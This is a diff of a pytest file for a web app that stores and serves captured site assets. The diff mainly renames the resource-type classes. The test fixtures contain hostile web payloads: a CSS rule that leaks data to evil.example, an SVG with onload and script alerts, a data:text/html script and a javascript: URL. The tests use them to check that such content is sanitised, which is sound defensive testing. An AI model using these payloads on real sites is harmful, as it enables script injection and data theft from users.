@@ -7,7 +7,7 @@ import re
 import pytest
 from django.urls import reverse
 
-from extraction.algorithms.dom.references import Kind, Need
+from extraction.algorithms.dom.references import NeededResource, ResourceKind
 from extraction.demo.images import png
 from extraction.display import addresses
 from extraction.display.addresses import Addresses
@@ -26,8 +26,8 @@ body{background:url(i.png)} p{background:url(//evil.example/leak)} a[href^="s"]{
 DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><rect width="9"/></svg>'
 
 
-def keep(site: Site, url: str, content: bytes, kind: Kind) -> Asset:
-    made = assets.keep(site, Need(url, kind), content, assets.Room.of(site))
+def keep(site: Site, url: str, content: bytes, kind: ResourceKind) -> Asset:
+    made = assets.keep(site, NeededResource(url, kind), content, assets.Room.of(site))
     assert made is not None
     return made
 
@@ -35,11 +35,11 @@ def keep(site: Site, url: str, content: bytes, kind: Kind) -> Asset:
 @pytest.fixture
 def site() -> Site:
     made = factory.site("Shop")
-    keep(made, "https://shop.example/s.css", SHEET, Kind.STYLE)
-    keep(made, "https://shop.example/more.css", b"i{color:red}", Kind.STYLE)
-    keep(made, "https://shop.example/i.png", png(1), Kind.IMAGE)
-    keep(made, "https://shop.example/d.svg", DRAWING, Kind.IMAGE)
-    keep(made, "https://shop.example/f.woff2", b"wOF2" + b"\0" * 40, Kind.FONT)
+    keep(made, "https://shop.example/s.css", SHEET, ResourceKind.STYLE)
+    keep(made, "https://shop.example/more.css", b"i{color:red}", ResourceKind.STYLE)
+    keep(made, "https://shop.example/i.png", png(1), ResourceKind.IMAGE)
+    keep(made, "https://shop.example/d.svg", DRAWING, ResourceKind.IMAGE)
+    keep(made, "https://shop.example/f.woff2", b"wOF2" + b"\0" * 40, ResourceKind.FONT)
     return made
 
 
@@ -127,8 +127,8 @@ def test_only_get_and_head(site, client):
 
 
 def test_sheets_import_sheets_only_so_deep(site, client):
-    keep(site, "https://shop.example/pool.css", b"@import 'loop.css'; b{c:d}", Kind.STYLE)
-    keep(site, "https://shop.example/loop.css", b"@import 'pool.css'; b{c:d}", Kind.STYLE)
+    keep(site, "https://shop.example/pool.css", b"@import 'loop.css'; b{c:d}", ResourceKind.STYLE)
+    keep(site, "https://shop.example/loop.css", b"@import 'pool.css'; b{c:d}", ResourceKind.STYLE)
     row = Asset.objects.get(url__endswith="loop.css")
     path, seen = f"{addresses.folder(site.pk)}{row.pk}_0_1-1.css", 0
     while path:
@@ -145,7 +145,7 @@ def test_what_a_page_says_of_our_addresses_stays_its_text(site, signed_in):
 def test_a_new_style_shows_at_once(site, signed_in):
     client = signed_in("viewer")
     before = frame(client, site).content.decode()
-    keep(site, "https://shop.example/none.css", b"u{v:w}", Kind.STYLE)
+    keep(site, "https://shop.example/none.css", b"u{v:w}", ResourceKind.STYLE)
     after = frame(client, site, PAGE + b"<!-- same -->").content.decode()
     assert len(paths(after)) == len(paths(before)) + 1
 
@@ -167,12 +167,12 @@ def test_marks_and_previews_work_with_assets(site, signed_in):
 @pytest.mark.parametrize(
     ("address", "kind", "kept"),
     [
-        ("data:image/png;base64," + base64.b64encode(png(1)).decode(), Kind.IMAGE, True),
-        ("data:image/svg+xml," + DRAWING.decode().replace("#", "%23"), Kind.IMAGE, True),
-        ("data:image/png;base64,AAAA", Kind.IMAGE, False),
-        ("data:text/html,<script>alert(1)</script>", Kind.IMAGE, False),
-        ("data:text/css,a{b:c}", Kind.STYLE, False),
-        ("javascript:alert(1)", Kind.IMAGE, False),
+        ("data:image/png;base64," + base64.b64encode(png(1)).decode(), ResourceKind.IMAGE, True),
+        ("data:image/svg+xml," + DRAWING.decode().replace("#", "%23"), ResourceKind.IMAGE, True),
+        ("data:image/png;base64,AAAA", ResourceKind.IMAGE, False),
+        ("data:text/html,<script>alert(1)</script>", ResourceKind.IMAGE, False),
+        ("data:text/css,a{b:c}", ResourceKind.STYLE, False),
+        ("javascript:alert(1)", ResourceKind.IMAGE, False),
     ],
 )
 def test_files_written_into_an_address_are_examined_too(address, kind, kept):
@@ -183,18 +183,18 @@ def test_files_written_into_an_address_are_examined_too(address, kind, kept):
 def test_a_held_file_is_used_only_as_what_it_is(site):
     held = assets.held(site.pk, assets.version(site.pk))
     ours = Addresses("https://shop.example/", held, addresses.under_place("1"))
-    assert ours("/i.png", Kind.IMAGE) and not ours("/i.png", Kind.STYLE) and not ours("/s.css", Kind.IMAGE)
+    assert ours("/i.png", ResourceKind.IMAGE) and not ours("/i.png", ResourceKind.STYLE) and not ours("/s.css", ResourceKind.IMAGE)
 
 
 def test_the_site_has_room_for_so_much(site, monkeypatch):
     monkeypatch.setattr(assets, "MAX_SITE_ASSETS", 6)
     room = assets.Room.of(site)
-    assert assets.keep(site, Need("https://shop.example/6.css", Kind.STYLE), b"a{b:c}", room)
-    assert assets.keep(site, Need("https://shop.example/7.css", Kind.STYLE), b"a{b:c}", room) is None
+    assert assets.keep(site, NeededResource("https://shop.example/6.css", ResourceKind.STYLE), b"a{b:c}", room)
+    assert assets.keep(site, NeededResource("https://shop.example/7.css", ResourceKind.STYLE), b"a{b:c}", room) is None
 
 
 def test_what_cannot_be_used_is_remembered_and_asked_for_again_later(site, monkeypatch):
-    need = Need("https://shop.example/huge.png", Kind.IMAGE)
+    need = NeededResource("https://shop.example/huge.png", ResourceKind.IMAGE)
     row = assets.keep(site, need, b"\x89PNG\r\n\x1a\n....IHDR\xff\xff\xff\xff\xff\xff\xff\xff", assets.Room.of(site))
     assert row and "pixels" in row.error and assets.missing(site, [need]) == []
     monkeypatch.setattr(assets, "RETRY_AFTER", -assets.RETRY_AFTER)
